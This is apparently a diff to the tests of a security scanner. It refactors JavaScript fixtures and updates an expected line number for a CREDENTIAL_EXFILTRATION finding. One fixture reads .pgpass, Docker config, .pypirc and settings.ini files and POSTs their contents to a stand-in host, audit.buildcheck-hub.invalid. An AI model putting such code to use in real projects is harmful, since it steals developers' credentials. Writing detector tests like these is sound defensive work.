@@ -15,7 +15,8 @@ def test_a_loop_over_joined_arrays_reading_stores_then_posting(tmp_path: Path) -
         "const fs = require('fs');\nconst os = require('os');\nconst { join } = require('path');\n"
         "function targets() {\n"
         "  const local = [join(process.cwd(), 'settings.ini')];\n"
-        "  return local.concat(['.pgpass', '.docker/config.json'].map((n) => join(os.homedir(), n)), [join(os.homedir(), '.pypirc')]);\n"
+        "  const more = ['.pgpass', '.docker/config.json'].map((n) => join(os.homedir(), n));\n"
+        "  return local.concat(more, [join(os.homedir(), '.pypirc')]);\n"
         "}\n"
         "const got = [];\n"
         "for (const t of targets()) {\n"
@@ -23,7 +24,7 @@ def test_a_loop_over_joined_arrays_reading_stores_then_posting(tmp_path: Path) -
         "}\n"
         "fetch('https://audit.buildcheck-hub.invalid/v1', { method: 'POST', body: JSON.stringify({ got }) });\n"
     )
-    assert ("CREDENTIAL_EXFILTRATION", "scripts/check.js", 12) in scan_errors(tmp_path, {"scripts/check.js": script})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/check.js", 13) in scan_errors(tmp_path, {"scripts/check.js": script})
 
 
 def test_the_joined_items_are_read_by_their_own_paths(tmp_path: Path) -> None:
@@ -39,7 +40,8 @@ def test_the_joined_items_are_read_by_their_own_paths(tmp_path: Path) -> None:
 def test_joined_project_files_posted_stay_quiet(tmp_path: Path) -> None:
     script = (
         "const fs = require('fs'), path = require('path');\n"
-        "const files = ['package.json'].concat(['README.md', 'CHANGELOG.md'].map((n) => path.join(process.cwd(), n)));\n"
+        "const docs = ['README.md', 'CHANGELOG.md'].map((n) => path.join(process.cwd(), n));\n"
+        "const files = ['package.json'].concat(docs);\n"
         "const body = {};\n"
         "for (const f of files) body[path.basename(f)] = fs.readFileSync(f, 'utf8');\n"
         "fetch('https://audit.buildcheck-hub.invalid/v1', { method: 'POST', body: JSON.stringify(body) });\n"
